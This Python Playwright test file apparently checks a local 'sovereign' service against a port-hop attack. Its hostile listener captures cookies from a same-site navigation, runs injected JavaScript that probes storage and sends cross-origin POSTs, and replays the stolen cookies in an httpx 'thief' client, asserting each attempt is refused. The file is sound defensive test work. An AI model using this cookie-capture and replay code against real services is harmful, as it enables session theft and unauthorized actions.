"""The port hop, in real chromium: the cookies reach a hostile listener on another port
of sovereign.localhost, and with them it can read no secret, switch nothing and approve
nothing (docs/decisions/cookie-is-not-a-session.md).

Browsers send a name's cookies to every port of it. The household, signed in and
with a search card waiting, follows a link from another site to
``sovereign.localhost:<hostile port>``; that cross-site arrival carries no
SameSite=Strict cookie, so the hostile page navigates to itself, a same-site hop that
carries both. Its page then tries the Console's storage and the service; the test
then uses the stolen cookies from outside the browser too.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from playwright.sync_api import expect

from sovereign.service.devices import DEVICE_COOKIE
from sovereign.service.listeners import bind_listeners
from sovereign.service.sessions import COOKIE_NAME

from .conftest import REBOUND_HOST
from .console_steps import first_run, send, set_web_search
from .live_service import fetch_through_loopback

HOSTILE_PAGE = """<!doctype html><title>hostile</title><script>
(async () => {
  const service = "http://sovereign.localhost:%(port)d/api/v1";
  const report = {
    tab: sessionStorage.getItem("sovereign.tab"),
    device: localStorage.getItem("sovereign.device"),
  };
  try {
    const r = await fetch(service + "/auth/state", {credentials: "include"});
    report.state = await r.text();
  } catch (error) { report.state = "blocked: " + error.name; }
  try {
    await fetch(service + "/conversation/policy", {method: "POST", mode: "no-cors",
      credentials: "include", headers: {"Content-Type": "text/plain"},
      body: '{"web_search_enabled": false}'});
    report.policy = "sent";
  } catch (error) { report.policy = "blocked: " + error.name; }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
  document.title = "done";
})();
</script>"""
ARRIVAL_PAGE = "<!doctype html><script>location.replace('/hop')</script>"


class Hostile:
    """A program on another port of this device, on both loopback addresses: it keeps
    the cookies each request carries and what its page reported."""

    def __init__(self, service_port: int) -> None:
        self.service_port = service_port
        self.cookies: dict[str, str] = {}
        self.reports: list[dict] = []
        probe = bind_listeners(["127.0.0.1", "::1"], 0)
        self.port = probe[0].getsockname()[1]
        for sock in probe:
            sock.close()

        class Server6(ThreadingHTTPServer):
            address_family = socket.AF_INET6

        handler = self._handler()
        self.servers = [
            ThreadingHTTPServer(("127.0.0.1", self.port), handler),
            Server6(("::1", self.port), handler),
        ]

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = self.path.split("?")[0]
                hostile.cookies[path] = self.headers.get("Cookie", "")
                if path == "/start":  # on another site: a link to the hostile port
                    target = f"http://sovereign.localhost:{hostile.port}/"
                    body = f"<!doctype html><a id=go href='{target}'>prize</a>"
                elif path == "/":
                    body = ARRIVAL_PAGE
                else:
                    body = HOSTILE_PAGE % {"port": hostile.service_port}
                self._answer(body.encode())

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length", "0"))
                hostile.reports.append(json.loads(self.rfile.read(length)))
                self._answer(b"ok")

            def _answer(self, data: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args: object) -> None:
                pass

        return Handler

    def stolen(self) -> dict[str, str]:
        """The cookies the same-site hop carried, by name."""
        jar = {}
        for pair in self.cookies.get("/hop", "").split(";"):
            name, _, value = pair.strip().partition("=")
            if name:
                jar[name] = value
        return jar


@pytest.fixture
def hostile(service) -> Iterator[Hostile]:
    server = Hostile(service.port)
    threads = [
        threading.Thread(target=s.serve_forever, args=(0.05,), daemon=True) for s in server.servers
    ]
    for thread in threads:
        thread.start()
    try:
        yield server
    finally:
        for s in server.servers:
            s.shutdown()
            s.server_close()
        for thread in threads:
            thread.join(timeout=5)


def pending_token(page) -> str:
    """Send a search and return the confirmation token the page received (the answer
    passes through the test on its way to the page)."""
    bodies: list[str] = []

    def relay(route) -> None:
        answer = fetch_through_loopback(route)
        bodies.append(answer.text())
        route.fulfill(response=answer)

    page.route("**/api/v1/conversation/message", relay)
    send(page, "search for our holiday dates")
    expect(page.locator(".confirmation-card")).to_be_visible()
    page.unroute("**/api/v1/conversation/message")
    result = bodies[0].split("event: result\ndata: ", 1)[1].split("\n", 1)[0]
    return json.loads(result)["pending_confirmation"]["token"]


def test_the_cookies_a_port_hop_steals_read_no_secret_and_approve_nothing(page, service, hostile):
    first_run(page, service)
    set_web_search(page, True)
    token = pending_token(page)

    page.goto(f"http://{REBOUND_HOST}:{hostile.port}/start")  # another site
    page.click("#go")  # cross-site arrival, then the hop to itself
    page.wait_for_function("document.title === 'done'")

    stolen = hostile.stolen()
    assert COOKIE_NAME in stolen and DEVICE_COOKIE in stolen  # the hop carried both
    assert COOKIE_NAME not in hostile.cookies["/"]  # the cross-site arrival carried none
    [report] = hostile.reports
    assert report["tab"] is None and report["device"] is None  # another origin's storage
    assert report["state"].startswith("blocked")  # no CORS: the answer is not readable

    console = service.url
    with httpx.Client(
        base_url=f"http://127.0.0.1:{service.port}",
        headers={"Host": console.removeprefix("http://"), "Origin": console},
        cookies=stolen,
    ) as thief:
        state = thief.get("/api/v1/auth/state")
        assert state.json() == {"setup_required": False, "signed_in": False}
        switched = thief.post("/api/v1/conversation/policy", json={"web_search_enabled": False})
        approved = thief.post(
            "/api/v1/conversation/message", json={"confirmation": {"token": token, "approve": True}}
        )
        guessed = thief.get(
            "/api/v1/conversation/policy", headers={"X-CSRF-Token": stolen[COOKIE_NAME]}
        )
    for refused in (switched, approved, guessed):
        assert refused.status_code == 403, refused.text
        assert refused.json()["error"]["code"] == "CSRF_FAILED"
    assert service.searxng.queries == []  # nothing left the device
    policy = json.loads((service.data_dir / "capabilities" / "policy.json").read_text())
    assert policy == {"web_search_enabled": True}  # the switch the household set stands

    page.goto(console + "/")  # the household comes back in the same tab: still signed in
    expect(page.locator("#chat-view")).to_be_visible()
